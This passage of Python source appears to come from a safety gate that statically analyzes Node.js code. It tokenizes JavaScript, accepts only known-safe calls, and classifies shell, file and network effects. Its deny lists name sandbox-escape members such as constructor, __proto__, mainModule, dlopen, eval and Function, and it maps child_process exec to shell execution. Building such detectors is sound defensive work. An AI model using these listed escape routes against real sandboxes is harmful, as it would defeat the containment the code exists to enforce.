"""JavaScript for node: calls are what counts, so every call must be one of a known function.

What a value is called by is an accept-list: methods of plain data, functions written in the code
itself, the functions of node's own modules. A call of anything that was computed is uncertain, and so
is handing something computed to a method that calls it back.
"""

from __future__ import annotations

import re

from autogate.effects import Effect, Kind, Outcome, RunCommand, RunFile, RunShell
from autogate.knowledge.languages._reader import NOTHING, NotReadError, Token, TokenReader
from autogate.knowledge.languages.common import (
    ENVIRONMENT,
    HOME,
    LIMIT,
    at_home,
    distinct,
    opened,
    strip_markers,
    uncertain,
    unknown_part,
    variable_read,
    with_unknown,
)
from autogate.words.values import MANY, UNKNOWN, is_static

_KEYWORDS = frozenset(
    """await async break case catch class const continue default delete do else extends finally for function get if in instanceof
    let new of return set static super switch this throw try typeof var void while yield true false null undefined NaN Infinity
    import export from as""".split()
)
_REGEX_AFTER = frozenset(
    "return typeof case in of delete void instanceof new do else throw await yield".split()
)
_CALL_WORDS = frozenset(
    "if for while switch catch function return typeof await in of void delete throw case yield async else do get set static".split()
)
_GLOBALS = frozenset(
    """console JSON Math Object Array String Number Boolean BigInt Symbol Date RegExp Error TypeError RangeError SyntaxError Map Set
    WeakMap WeakSet Promise Intl URL URLSearchParams Buffer TextEncoder TextDecoder parseInt parseFloat isNaN isFinite encodeURIComponent
    decodeURIComponent encodeURI decodeURI escape unescape setTimeout setInterval setImmediate clearTimeout clearInterval queueMicrotask
    structuredClone require process performance Uint8Array Int8Array Uint16Array Int16Array Uint32Array Int32Array Float32Array Float64Array
    ArrayBuffer DataView atob btoa fetch AbortController Headers crypto __dirname __filename arguments navigator Iterator""".split()
)
_CALLABLE = frozenset(
    """String Number Boolean BigInt Symbol Date RegExp Error TypeError RangeError Array Object parseInt parseFloat isNaN isFinite
    encodeURIComponent decodeURIComponent encodeURI decodeURI escape unescape setTimeout setInterval setImmediate clearTimeout
    clearInterval queueMicrotask structuredClone atob btoa""".split()
)
_CONSTRUCTORS = _CALLABLE - {"Symbol", "BigInt"} | frozenset(
    """Map Set WeakMap WeakSet Promise URL URLSearchParams SyntaxError TextEncoder TextDecoder Uint8Array Int8Array Uint16Array Int16Array
    Uint32Array Int32Array Float32Array Float64Array ArrayBuffer DataView AbortController Headers""".split()
)
_CALLERS = frozenset(
    """map filter forEach reduce reduceRight some every find findIndex findLast findLastIndex flatMap sort toSorted then catch finally replace
    replaceAll from on once addListener setTimeout setInterval setImmediate queueMicrotask nextTick each transform pipe
    stringify parse fromEntries groupBy assign defineProperty create allSettled all race any""".split()
) - frozenset("stringify parse fromEntries assign all allSettled race any create pipe".split())
"""Methods that call back what they are given."""
_METHODS = frozenset(
    """map filter forEach reduce reduceRight some every find findIndex findLast findLastIndex flatMap flat sort toSorted reverse toReversed
    slice splice toSpliced concat join push pop shift unshift includes indexOf lastIndexOf fill copyWithin keys values entries at with
    length from of isArray split replace replaceAll match matchAll search test exec trim trimStart trimEnd padStart padEnd
    toUpperCase toLowerCase toLocaleUpperCase toLocaleLowerCase charAt charCodeAt codePointAt startsWith endsWith substring substr repeat
    normalize localeCompare toString toLocaleString valueOf toFixed toPrecision toExponential toJSON raw fromCharCode fromCodePoint
    log error warn info debug table dir group groupEnd time timeEnd trace assert count dirxml parse stringify
    abs ceil floor round trunc sign sqrt cbrt pow exp log2 log10 log1p expm1 min max random sin cos tan asin acos atan atan2 hypot imul clz32
    fround sinh cosh tanh get set has delete add clear size now UTC getTime getFullYear getMonth getDate getDay getHours getMinutes getSeconds
    getMilliseconds getTimezoneOffset getUTCFullYear getUTCMonth getUTCDate getUTCHours getUTCMinutes getUTCSeconds toISOString toDateString
    toTimeString toLocaleDateString toLocaleTimeString toUTCString setDate setMonth setFullYear setHours setMinutes setSeconds setTime
    assign freeze fromEntries is isFrozen hasOwn hasOwnProperty getOwnPropertyNames isInteger isSafeInteger
    isNaN isFinite parseFloat parseInt then catch finally resolve reject all allSettled race any append getAll forEach toSorted
    alloc allocUnsafe byteLength isBuffer equals readUInt8 readUInt16BE readUInt16LE readUInt32BE readUInt32LE readInt32LE readInt32BE writeUInt8
    encode decode format formatToParts resolvedOptions select setEncoding on once pause resume text json blob arrayBuffer
    next return throw description for union intersection difference subarray digest update toReversed
    cwd uptime memoryUsage hrtime bigint exit isWellFormed groupBy trimLeft trimRight
    end write isView""".split()
)
_DENIED = frozenset(
    """constructor __proto__ prototype __defineGetter__ __defineSetter__ __lookupGetter__ mainModule binding _linkedBinding dlopen callee caller
    getPrototypeOf setPrototypeOf defineProperty defineProperties getOwnPropertyDescriptor getOwnPropertyDescriptors _load createRequire
    getBuiltinModule captureStackTrace prepareStackTrace""".split()
)
"""Members that lead from plain data to functions that run texts, or to the insides of node."""
_IMPLICIT = frozenset("toString valueOf toJSON then toPrimitive".split())

_FS = {
    "readFile": "read", "createReadStream": "read", "readdir": "read", "opendir": "read", "writeFile": "write", "createWriteStream": "write",
    "appendFile": "append", "unlink": "delete", "rm": "rm", "rmdir": "rm", "rename": "move", "copyFile": "copy", "cp": "copy", "mkdir": "create",
    "mkdtemp": "create", "chmod": "mode", "chown": "owner", "lchown": "owner", "symlink": "link", "link": "link", "truncate": "write", "utimes": "create", "open": "open",
    "watch": "read", "exists": "pure", "stat": "pure", "lstat": "pure", "access": "pure", "realpath": "pure", "readlink": "pure", "fstat": "pure",
    "close": "pure", "read": "pure", "write": "pure", "statfs": "pure", "constants": "pure", "promises": "module", "readv": "pure", "writev": "pure", "fsync": "pure",
}  # fmt: skip
_MODULES: dict[str, dict[str, str]] = {
    "fs": _FS,
    "fs/promises": _FS,
    "child_process": {"exec": "shell", "spawn": "spawn", "execFile": "spawn", "fork": "fork"},
    "http": {"get": "get", "request": "request", "createServer": "listen", "STATUS_CODES": "pure", "METHODS": "pure"},
    "https": {"get": "get", "request": "request", "createServer": "listen"},
    "http2": {"connect": "get"},
    "net": {"connect": "connect", "createConnection": "connect", "createServer": "listen", "isIP": "pure", "isIPv4": "pure", "isIPv6": "pure"},
    "tls": {"connect": "connect", "createServer": "listen"},
    "dns": {"lookup": "resolve", "resolve": "resolve", "resolve4": "resolve", "resolve6": "resolve", "resolveMx": "resolve", "resolveTxt": "resolve", "promises": "module"},
    "process": {},
}  # fmt: skip
_PURE_MODULES: dict[str, frozenset[str]] = {
    "os": frozenset("cpus totalmem freemem platform arch type release hostname homedir tmpdir uptime loadavg userInfo networkInterfaces EOL endianness version machine availableParallelism constants devNull".split()),
    "path": frozenset("join resolve basename dirname extname relative normalize isAbsolute parse format sep delimiter posix win32".split()),
    "url": frozenset("parse format resolve URL URLSearchParams fileURLToPath pathToFileURL".split()),
    "util": frozenset("inspect format isDeep types isDeepStrictEqual TextEncoder TextDecoder inherits styleText stripVTControlCharacters".split()),
    "querystring": frozenset("parse stringify escape unescape".split()),
    "crypto": frozenset("createHash createHmac randomBytes randomUUID randomInt getHashes getCiphers timingSafeEqual pbkdf2Sync scryptSync createCipheriv createDecipheriv hash webcrypto".split()),
    "zlib": frozenset("gzipSync gunzipSync deflateSync inflateSync brotliCompressSync brotliDecompressSync inflateRawSync deflateRawSync constants crc32".split()),
    "assert": frozenset("ok equal strictEqual deepEqual deepStrictEqual notEqual match throws".split()),
    "buffer": frozenset("Buffer constants".split()),
    "perf_hooks": frozenset("performance".split()),
    "v8": frozenset("getHeapStatistics cachedDataVersionTag serialize deserialize".split()),
    "string_decoder": frozenset(["StringDecoder"]),
    "punycode": frozenset("encode decode toASCII toUnicode".split()),
    "timers": frozenset("setTimeout setInterval setImmediate".split()),
    "timers/promises": frozenset("setTimeout setImmediate".split()),
    "events": frozenset(["EventEmitter", "once"]),
    "readline": frozenset(["createInterface"]),
    "tty": frozenset(["isatty"]),
}  # fmt: skip
_PROCESS = frozenset(
    """version versions argv platform arch cwd exit uptime memoryUsage hrtime stdout stderr stdin pid ppid title release config features nextTick
    exitCode on once execPath execArgv getuid getgid geteuid cpuUsage resourceUsage emitWarning argv0 allowedNodeEnvironmentFlags umask off""".split()
)

_token = re.compile(
    r"""(?P<space>(?:[ \t\r\f\v\u00a0\ufeff]|//[^\n\u2028\u2029]*|/\*(?:(?!\*/).)*\*/)+)
    |(?P<newline>[\n\u2028\u2029]+)
    |(?P<string>"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*')
    |(?P<number>0[xXoObB][0-9a-fA-F_]+n?|(?:[0-9][0-9_]*\.?[0-9_]*|\.[0-9][0-9_]*)(?:[eE][+-]?[0-9]+)?n?)
    |(?P<name>\#?[^\W0-9][\w$]*|\$[\w$]*)
    |(?P<template>`)
    |(?P<op>=>|\.\.\.|\?\.(?![0-9])|\*\*=|>>>=|===|!==|>>>|<<=|>>=|&&=|\|\|=|\?\?=|\?\?|\*\*|\+\+|--|==|!=|<=|>=|&&|\|\||<<|>>|[-+*/%&|^]=|[-+*/%<>=!~?:.,;(){}\[\]&|^@])
    """,
    re.VERBOSE | re.DOTALL,
)
_regex = re.compile(r"/(?:[^\\/\n\[]|\\[^\n]|\[(?:[^\\\]\n]|\\[^\n])*\])+/[a-z]*")


def outcomes(
    text: str, arguments: tuple[str, ...] = (), options: tuple[str, ...] = ()
) -> tuple[Outcome, ...]:
    """What the code does beyond computing and printing. ``arguments`` are those after the code."""
    del options
    if len(text) > LIMIT:
        return (uncertain("javascript", "very long code"),)
    out: list[Outcome] = [] if is_static(text) else [unknown_part("javascript")]
    reader = _Reader(arguments)
    try:
        reader.tokenize(strip_markers(text), 0, 0)
    except NotReadError as problem:
        reader.doubt(str(problem))
    try:
        reader.read()
    except (NotReadError, RecursionError) as problem:
        reader.doubt(str(problem)[:60])
    return distinct([*(at_home(o) for o in reader.out), *out])


# Kinds of tokens: ``name`` ``string`` (its value) ``number`` ``regex`` ``template`` (its value) ``op``.
class _Reader(TokenReader):
    """Tokens first, then the calls."""

    language = "javascript"

    def __init__(self, arguments: tuple[str, ...]) -> None:
        super().__init__()
        self.arguments = arguments
        self.match: list[int] = []
        """For each bracket the index of its partner, -1 for other tokens."""
        self.functions: set[str] = set()
        self.locals: set[str] = set()
        self.modules: dict[str, str] = {}
        self.members: dict[str, tuple[str, str]] = {}
        """Local names for functions of modules."""
        self.parameters: set[str] = set()
        self.own: set[str] = set()
        """Methods of the code's own classes and objects."""
        self.clauses: set[int] = set()
        """Places in import clauses: no uses."""

    # tokens

    def tokenize(self, text: str, at: int, depth: int) -> int:
        """Adds the tokens; in a template's expression up to its closing brace."""
        if depth > 20:
            raise NotReadError("deep nesting")
        braces = 0
        parens: list[bool] = []
        after_condition = False
        while at < len(text):
            if text.startswith("<!--", at) or (
                text.startswith("-->", at) and text[:at].rpartition("\n")[2].strip() == ""
            ):
                raise NotReadError("an old comment")
            if text[at] == "/" and text[at + 1 : at + 2] not in ("/", "*"):
                place = self._slash(after_condition=after_condition)
                if place == "either":
                    raise NotReadError("a slash that may divide or begin a pattern")
                if place == "regex":
                    match = _regex.match(text, at)
                    if match is None:
                        raise NotReadError("a pattern without end")
                    self.tokens.append(Token("regex", match[0]))
                    at = match.end()
                    continue
            match = _token.match(text, at)
            if match is None:
                if text.startswith("#!", at) and at == 0:
                    at = len(text) if "\n" not in text else text.index("\n")
                    continue
                raise NotReadError(f"the character {text[at]!r}")
            at = match.end()
            kind = match.lastgroup or ""
            if kind in ("space", "newline"):
                if kind == "newline" and self.tokens and self.tokens[-1].text != "\n":
                    self.tokens.append(Token("op", "\n"))
                continue
            word = match[0]
            if kind == "template":
                at = self._template(text, at, depth)
                continue
            if kind == "string":
                self.tokens.append(Token("string", _unescaped(word[1:-1])))
                continue
            after_condition = False
            if word == "(":
                parens.append(self._last().text in ("if", "while", "for", "with"))
            elif word == ")":
                after_condition = bool(parens) and parens.pop()
            elif word == "{":
                braces += 1
            elif word == "}":
                if braces == 0 and depth:
                    return at
                braces -= 1
            self.tokens.append(Token(kind, word))
        if depth:
            raise NotReadError("a text without end")
        return at

    def _last(self) -> Token:
        for token in reversed(self.tokens):
            if token.text != "\n" or token.kind != "op":
                return token
        return NOTHING

    def _slash(self, *, after_condition: bool) -> str:
        kind, text = self._last()
        if kind in ("number", "string", "template", "regex"):
            return "division"
        if kind == "name":
            return "regex" if text in _REGEX_AFTER else "division"
        if text == ")":
            return "either" if after_condition else "division"
        if text == "]":
            return "division"
        return "either" if text in ("}", "++", "--") else "regex"

    def _template(self, text: str, at: int, depth: int) -> int:
        parts: list[str] = []
        inner: list[Token] = []
        before = self.tokens
        while True:
            if at >= len(text):
                raise NotReadError("a text without end")
            char = text[at]
            if char == "`":
                break
            if char == "\\":
                parts.append(_unescaped(text[at : at + 2]))
                at += 2
            elif text.startswith("${", at):
                self.tokens = []
                at = self.tokenize(text, at + 2, depth + 1)
                inner.append(Token("op", "("))
                inner.extend(self.tokens)
                inner.append(Token("op", ")"))
                inner.append(Token("op", ";"))
                parts.append(UNKNOWN)
            else:
                end = at
                while end < len(text) and text[end] not in "`\\" and not text.startswith("${", end):
                    end += 1
                parts.append(text[at:end])
                at = end
        self.tokens = before
        self.tokens.append(Token("template", with_unknown("".join(parts))))
        if inner:  # the expressions, as if they followed: ";" keeps them from being a call
            self.tokens.append(Token("op", "~("))
            self.tokens.append(Token("op", ";"))
            self.tokens.extend(inner)
            self.tokens.append(Token("op", "~)"))
        return at + 1

    # declarations

    def read(self) -> None:
        """Finds what the names are, then looks at every token."""
        self._lift_templates()
        self._pair()
        self._declare()
        for at, (kind, text) in enumerate(self.tokens):
            if kind == "name":
                self._name(at)
            elif text == "(" and kind == "op":
                self._call(at)
            elif text == "[" and kind == "op":
                self._computed(at)
            elif kind == "template":
                before = self._before(at)
                if (before.kind == "name" and before.text not in _KEYWORDS) or before.text in (")", "]"):
                    raw = before.text == "raw" and self.tokens[at - 3 : at - 2] == [Token("name", "String")]
                    if not raw:
                        self.doubt("a tagged template")
            elif text == "@" and kind == "op":
                self.doubt("a decorator")

    def _lift_templates(self) -> None:
        """Moves expressions of templates to the end, as statements of their own."""
        if not any(token.text == "~(" for token in self.tokens):
            return
        main: list[Token] = []
        stack: list[list[Token]] = [main]
        lifted: list[list[Token]] = []
        for token in self.tokens:
            if token.text == "~(" and token.kind == "op":
                stack.append([])
            elif token.text == "~)" and token.kind == "op" and len(stack) > 1:
                lifted.append(stack.pop())
            else:
                stack[-1].append(token)
        self.tokens = main
        for group in lifted:
            self.tokens.append(Token("op", ";"))
            self.tokens.extend(group)

    def _pair(self) -> None:
        self.match = [-1] * len(self.tokens)
        stack: list[int] = []
        for at, (kind, text) in enumerate(self.tokens):
            if kind != "op":
                continue
            if text in ("(", "[", "{"):
                stack.append(at)
            elif text in (")", "]", "}"):
                if not stack:
                    raise NotReadError("brackets that do not match")
                start = stack.pop()
                if {"(": ")", "[": "]", "{": "}"}[self.tokens[start].text] != text:
                    raise NotReadError("brackets that do not match")
                self.match[start] = at
                self.match[at] = start
        if stack:
            raise NotReadError("brackets that do not match")

    def _before(self, at: int) -> Token:
        at -= 1
        while at >= 0 and self.tokens[at].text == "\n":
            at -= 1
        return self.tokens[at] if at >= 0 else NOTHING

    def _after(self, at: int) -> int:
        """Index of the next token that is not a line's end."""
        at += 1
        while at < len(self.tokens) and self.tokens[at].text == "\n":
            at += 1
        return at

    def _declare(self) -> None:
        tokens = self.tokens
        assigned: dict[str, list[str | None]] = {}
        for at, (kind, text) in enumerate(tokens):
            following = self.token(self._after(at))
            if kind == "name":
                if text in ("const", "let", "var"):
                    self._bindings(self._after(at))
                elif text in ("function", "class"):
                    name = self._after(at)
                    if self.token(name).text == "*":
                        name = self._after(name)
                    if self.token(name).kind == "name":
                        self.functions.add(self.token(name).text)
                        self.locals.add(self.token(name).text)
                    if text == "function":
                        start = next(
                            (i for i in range(name, min(len(tokens), name + 3)) if tokens[i].text == "("), -1
                        )
                        if start >= 0:
                            self._parameters(start)
                    else:
                        self._methods_of_class(at)
                elif text == "catch" and following.text == "(":
                    self._parameters(self._after(at))
                elif text == "import":
                    self._import(at)
                elif following.text == "=>":
                    self.locals.add(text)
                elif following.text == "=" and self._before(at).text not in (".", "?."):
                    value = self._after(self._after(at))
                    if self._is_function(value):
                        self.functions.add(text)
                    self.locals.add(text)
                    static = self._static_value(value)
                    assigned.setdefault(text, []).append(static)
                    self._module_of(text, value)
                elif following.text in (
                    "+=",
                    "-=",
                    "*=",
                    "/=",
                    "++",
                    "--",
                    "||=",
                    "??=",
                    "%=",
                ) or self._before(at).text in ("++", "--"):
                    assigned.setdefault(text, []).append(None)
                if following.text in ("of", "in") and self._before(at).text in ("const", "let", "var", "("):
                    assigned.setdefault(text, []).append(None)
            elif text == "=>" and kind == "op" and self._before(at).text == ")":
                end = at - 1
                while tokens[end].text == "\n":
                    end -= 1
                self._parameters(self.match[end])
        for parameter in self.parameters:
            assigned.setdefault(parameter, []).append(None)
        for local, values in assigned.items():
            if len(set(values)) == 1 and values[0] is not None:
                self.values[local] = values[0]
            if local in self.functions and any(value is not None for value in values):
                self.functions.discard(local)
        # a name that holds a function once and something else at another time
        for at, (kind, text) in enumerate(tokens):
            if (
                kind == "name"
                and text in self.functions
                and self.token(self._after(at)).text in ("=", "||=", "??=")
                and self._before(at).text != "."
            ) and not self._is_function(self._after(self._after(at))):
                self.functions.discard(text)
        self.functions -= self.parameters

    def _parameters(self, start: int) -> None:
        """Names bound in a list of parameters."""
        self.parameters = self.parameters | set(self._names_in(start))
        self.locals |= self.parameters

    def _names_in(self, start: int) -> list[str]:
        end = self.match[start]
        names = []
        for at in range(start + 1, end):
            kind, text = self.tokens[at]
            if (
                kind == "name"
                and text not in _KEYWORDS
                and self._before(at).text in ("(", ",", "{", "[", ":", "...")
                and self._before(at).text != "."
            ):
                names.append(text)
        return names

    def _bindings(self, at: int) -> None:
        """The names after ``const``, ``let`` or ``var``."""
        tokens = self.tokens
        while at < len(tokens):
            if tokens[at].text in ("{", "["):
                end = self.match[at]
                self._destructured(at, end)
                at = self._after(end)
            elif tokens[at].kind == "name":
                self.locals.add(tokens[at].text)
                at = self._after(at)
            else:
                return
            depth_end = at
            while depth_end < len(tokens) and tokens[depth_end].text not in (",", ";", "\n", ")", "}", "]"):
                depth_end = self.match[depth_end] + 1 if self.match[depth_end] > depth_end else depth_end + 1
            if depth_end < len(tokens) and tokens[depth_end].text == ",":
                at = self._after(depth_end)
            else:
                return

    def _destructured(self, start: int, end: int) -> None:
        names = self._names_in(start)
        self.locals |= set(names)
        equals = self._after(end)
        module = self._required(self._after(equals)) if self.token(equals).text == "=" else ""
        if (
            not module
            and self.token(equals).text == "="
            and self.token(self._after(equals)).text in (*_MODULES, *_PURE_MODULES)
        ):
            module = self.token(self._after(equals)).text
        at = start + 1
        while at < end:
            token = self.tokens[at]
            if token.kind == "name":
                alias = token.text
                if self.token(at + 1).text == ":" and self.token(at + 2).kind == "name":
                    alias = self.token(at + 2).text
                    at += 2
                if module:
                    self.members[alias] = (module, token.text)
                else:
                    self.parameters = self.parameters | {alias}
            at += 1

    def _required(self, at: int) -> str:
        """The module that ``require('x')`` at this place names, "" where it is none."""
        if self.token(at).text == "await":
            at = self._after(at)
        if (
            self.token(at).text in ("require", "import")
            and self.token(at + 1).text == "("
            and self.token(at + 2).kind == "string"
            and self.token(at + 3).text == ")"
        ):
            return self.token(at + 2).text.removeprefix("node:")
        return ""

    def _module_of(self, name: str, at: int) -> None:
        module = self._required(at)
        if module:
            end = at + 4 if self.token(at).text != "await" else at + 5
            if self.token(end).text == ".":
                if self.token(end + 1).text == "promises":
                    self.modules[name] = module
                elif self.token(end + 2).text != "(":
                    self.members[name] = (module, self.token(end + 1).text)
            else:
                self.modules[name] = module
        elif (
            self.token(at).text in _MODULES
            and self.token(at + 1).text == "."
            and self.token(at + 3).text != "("
        ):
            self.members[name] = (self.token(at).text, self.token(at + 2).text)

    def _import(self, at: int) -> None:
        tokens = self.tokens
        end = at
        while end < len(tokens) and tokens[end].kind != "string" and tokens[end].text not in ("(", ";"):
            end += 1
        if self.token(end).kind != "string":
            return
        module = tokens[end].text.removeprefix("node:")
        self.clauses.update(range(at + 1, end))
        names = [token for token in tokens[at + 1 : end] if token.kind == "name" and token.text != "from"]
        braces = any(token.text == "{" for token in tokens[at + 1 : end])
        index = 0
        while index < len(names):
            name = names[index].text
            alias = name
            if index + 2 < len(names) and names[index + 1].text == "as":
                alias = names[index + 2].text
                index += 2
            if name == "as":
                alias = names[index + 1].text if index + 1 < len(names) else name
                index += 1
            self.locals.add(alias)
            if braces and tokens[at + 1].text == "{":
                self.members[alias] = (module, name)
            else:
                self.modules[alias] = module
            index += 1
        self._load(module)

    def _methods_of_class(self, at: int) -> None:
        start = next((i for i in range(at, min(len(self.tokens), at + 12)) if self.tokens[i].text == "{"), -1)
        if start < 0:
            return
        if any(self.tokens[i].text == "extends" for i in range(at, start)):
            base = self.token(start - 1).text
            if base not in ("Error", "Map", "Set", "Array", *self.functions):
                self.doubt("a class that extends another")
        index = start + 1
        while index < self.match[start]:
            token = self.tokens[index]
            if token.text in ("(", "[", "{"):
                if token.text == "(":
                    self._parameters(index)
                    name = self.token(index - 1)
                    if name.kind == "name":
                        self.own.add(name.text)
                index = self.match[index]
            index += 1

    def _is_function(self, at: int) -> bool:
        """Whether a function is written at this place."""
        token = self.token(at)
        if token.text == "async":
            at = self._after(at)
            token = self.token(at)
        if token.text in ("function", "class") and token.kind == "name":
            return True
        if token.kind == "name" and self.token(self._after(at)).text == "=>":
            return True
        return (
            token.text == "(" and self.match[at] >= 0 and self.token(self._after(self.match[at])).text == "=>"
        )

    # values

    def _static_value(self, at: int) -> str | None:
        token = self.token(at)
        if token.kind in ("string", "template", "number"):
            following = self.token(self._after(at)).text
            if following in (";", ",", "\n", ")", "}", "") or self.token(at + 1).text == "\n":
                return token.text
        return None

    def _groups(self, start: int) -> list[tuple[int, int]]:
        """The arguments of a call, as ranges of tokens."""
        end = self.match[start]
        out: list[tuple[int, int]] = []
        at = first = start + 1
        while at < end:
            if self.match[at] > at:
                at = self.match[at]
            elif self.tokens[at].text == "," and self.tokens[at].kind == "op":
                out.append((first, at))
                first = at + 1
            at += 1
        if first < end:
            out.append((first, end))
        return out

    def _value(self, start: int, end: int) -> str:
        """The text of an expression, unknown where it is not plain."""
        tokens = [token for token in self.tokens[start:end] if token.text != "\n" or token.kind != "op"]
        if not tokens:
            return UNKNOWN
        texts = [token.text for token in tokens]
        if len(tokens) == 1:
            kind, text = tokens[0]
            if kind in ("string", "template", "number"):
                return text
            return self.values.get(text, UNKNOWN) if kind == "name" else UNKNOWN
        if texts[-3:] == ["homedir", "(", ")"] or texts in (
            ["process", ".", "env", ".", "HOME"],
            ["process", ".", "env", "[", "HOME", "]"],
        ):
            return HOME
        if texts[-5:] == ["process", ".", "cwd", "(", ")"] and len(texts) == 5:
            return "."
        if texts[:4] == ["process", ".", "argv", "["] and len(texts) == 6 and tokens[4].kind == "number":
            index = int(texts[4]) - 1 if texts[4].isdigit() else -1
            return (
                self.arguments[index]
                if 0 <= index < len(self.arguments) and MANY not in self.arguments[: index + 1]
                else UNKNOWN
            )
        if (
            len(tokens) > 3
            and texts[1:3] in ([".", "join"], [".", "resolve"])
            and texts[3] == "("
            and self.modules.get(texts[0], texts[0]) == "path"
        ):
            offset = next((i for i in range(start, end) if self.tokens[i].text == "("), -1)
            if self.match[offset] == end - 1:
                return _joined([self._value(*group) for group in self._groups(offset)])
            return UNKNOWN
        at = start
        parts: list[str] = []
        first = start
        while at <= end:
            if at == end or (self.tokens[at].text == "+" and self.tokens[at].kind == "op"):
                if at == first or (first == start and at == end):
                    return UNKNOWN
                parts.append(self._value(first, at))
                first = at + 1
            elif self.match[at] > at:
                at = self.match[at]
            at += 1
        return re.sub("\x00+", "\x00", "".join(parts))

    def _list(self, start: int, end: int) -> list[str] | None:
        """The texts of an array written in place, None for anything else."""
        while self.token(start).text == "\n":
            start += 1
        if self.token(start).text != "[" or self.match[start] != end - 1:
            return None
        return [
            MANY if self.token(group[0]).text == "..." else self._value(*group)
            for group in self._groups(start)
        ]

    # names and calls

    def _name(self, at: int) -> None:
        tokens = self.tokens
        text = tokens[at].text
        before = self._before(at)
        following = self.token(self._after(at))
        if at in self.clauses:
            return
        if before.text in (".", "?.") and before.kind == "op":
            if (
                text in _DENIED
                and not (
                    text == "constructor" and following.text == "." and self.token(at + 2).text == "name"
                )
            ) or text in ("process", "require", "eval", "Function", "globalThis", "global"):
                self.doubt(f"the member {text}")
            elif following.text == "=" and self.token(at + 1).text == "=":
                self._member_set(at)
            return
        if following.text == ":" and before.text in ("{", ",") and following.kind == "op":
            self._key(at)
            return
        if text in _KEYWORDS:
            if text in ("import", "export", "super") and not (
                text == "import"
                and (following.kind == "string" or following.text in ("{", "*") or following.kind == "name")
            ):
                if text == "import" and following.text == "(":
                    self._require(self._after(at))
                elif text != "export":
                    self.doubt(text)
            elif text == "this" and following.text == "[":
                self.doubt("this[…]")
            elif text == "new":
                self._new(at)
            return
        if text in (
            "with",
            "debugger",
            "eval",
            "Function",
            "globalThis",
            "global",
            "module",
            "Reflect",
            "Proxy",
            "WebAssembly",
            "window",
            "self",
            "Deno",
            "Bun",
            "exports",
        ):
            if not (text in self.locals and text in ("module", "self", "exports", "window", "with")):
                self.doubt(text)
            return
        if text in self.members:
            if following.text != "(":
                self._function_out_of_sight(at, *self.members[text])
            return
        module = self.modules.get(text)
        if (
            (
                module is None
                and text not in self.locals
                and (text in _MODULES or text in _PURE_MODULES)
                and text != "process"
            )
            and not (text == "assert" and following.text == "(")
            and text != "crypto"
        ):
            module = text
        if module is not None:
            self._module_use(at, module)
            return
        if text == "process":
            self._process(at)
        elif text == "require":
            if following.text == "(":
                self._require(self._after(at))
            elif not (following.text == "." and self.token(at + 2).text == "resolve"):
                self.doubt("require")
        elif text == "fetch":
            if following.text != "(":
                self.doubt("fetch")
        elif text in self.locals or text in _GLOBALS or text in self.own:
            if following.text == "=" and text in _GLOBALS and text not in self.locals:
                self.doubt(f"a change of {text}")
            elif (
                text in _GLOBALS
                and text not in self.locals
                and following.text not in (".", "(", "?.", ")", ",", "]")
                and before.text != "new"
                and before.text != "instanceof"
            ) and text not in ("__dirname", "__filename", "arguments", "performance", "console"):
                self.doubt(f"{text} as a value")
        elif (
            following.text == "("
            and self.match[self._after(at)] >= 0
            and self.token(self._after(self.match[self._after(at)])).text == "{"
        ):
            self.own.add(text)  # a method of an object or class
            self._parameters(self._after(at))
        elif following.text == ":" and before.text in (";", "\n", "{", "}", ""):
            return  # a label
        else:
            self.doubt(f"the name {text}")

    def _key(self, at: int) -> None:
        """A key of an object whose value may be called by that name."""
        name = self.tokens[at].text
        value = self._after(self._after(at))
        if self._is_function(value):
            self.own.add(name)
            return
        called = (
            any(
                self.tokens[i].text == name
                and self.token(i + 1).text == "("
                and self._before(i).text in (".", "?.")
                for i in range(len(self.tokens))
                if i != at
            )
            if name in _METHODS or name in self.own
            else False
        )
        plain = self.token(value).kind in ("string", "number", "template") and self.token(value + 1).text in (
            ",",
            "}",
        )
        if (called or name in _IMPLICIT) and not plain:
            self.doubt(f"the member {name} of an object")

    def _member_set(self, at: int) -> None:
        name = self.tokens[at].text
        value = self._after(self._after(at))
        base = self.token(at - 2)
        if (
            base.text in _GLOBALS
            and base.text not in self.locals
            and not (base.text == "process" and name in ("exitCode", "title"))
        ):
            self.doubt(f"a change of {base.text}.{name}")
        elif self._is_function(value):
            self.own.add(name)
        elif (name in _METHODS and name not in ("length", "size")) or name in _IMPLICIT:
            self.doubt(f"a change of {name}")

    def _new(self, at: int) -> None:
        name = self.token(self._after(at))
        if name.kind != "name":
            self.doubt("new of what is computed")
        elif name.text in self.members:
            module, member = self.members[name.text]
            self._function(module, member, self._after(self._after(at)))
        elif (
            name.text not in _CONSTRUCTORS
            and name.text not in self.functions
            and name.text not in self.modules
            and name.text not in _MODULES
            and name.text not in _PURE_MODULES
            and name.text not in ("Intl", "require")
        ) or (name.text in self.locals and name.text not in self.functions and name.text not in self.modules):
            self.doubt(f"new {name.text}")

    def _call(self, at: int) -> None:
        before_at = at - 1
        while before_at >= 0 and self.tokens[before_at].text == "\n":
            before_at -= 1
        before = self.token(before_at)
        if before_at < 0 or before.kind in ("string", "number", "regex", "template"):
            return
        if before.kind == "op":
            if before.text == ")":
                start = self.match[before_at]
                word = self._before(start)
                if word.text in ("if", "for", "while", "switch", "catch") and word.kind == "name":
                    return
                inside = self._after(start)
                if self._is_function(inside) and word.kind != "name" and word.text not in (")", "]"):
                    return
                self.doubt("a call of what is computed")
            elif before.text in ("]", "?."):
                self.doubt("a call of what is computed")
            elif before.text == "}":
                start = self.match[before_at]
                word = self._before(start)
                if self.tokens[at - 1].text == "\n" or word.text in (
                    ")",
                    "else",
                    "=>",
                    "do",
                    "try",
                    "finally",
                ):
                    return
                self.doubt("a call of what is computed")
            return
        name = before.text
        if self._before(before_at).text in (".", "?."):
            self._method(before_at, at)
            return
        if name in _KEYWORDS:
            return
        if name in self.members:
            self._function(*self.members[name], at)
        elif name in self.functions or name in self.own:
            return
        elif name == "fetch" and name not in self.locals:
            self._fetch(at)
        elif name in self.locals:
            if name in self.modules and self.modules[name] == "assert":
                return
            self.doubt(f"a call of {name}")
        elif name in _CALLABLE:
            if name in _CALLERS:
                self._callbacks(at)
        elif (
            self._before(before_at).text != "new"
            and name not in ("require", "fetch", "process", "assert")
            and name not in self.locals
            and (name in _GLOBALS or name in _MODULES or name in _PURE_MODULES)
        ):
            self.doubt(f"a call of {name}")

    def _method(self, at: int, start: int) -> None:
        """A call of a member: of a module (looked at with its name), or of data."""
        name = self.tokens[at].text
        if name in _DENIED:
            return
        base = self._base(at)
        if base is not None:
            return
        if name in _CALLERS:
            self._callbacks(start)
        if name in _METHODS or name in self.own or name in self.functions:
            return
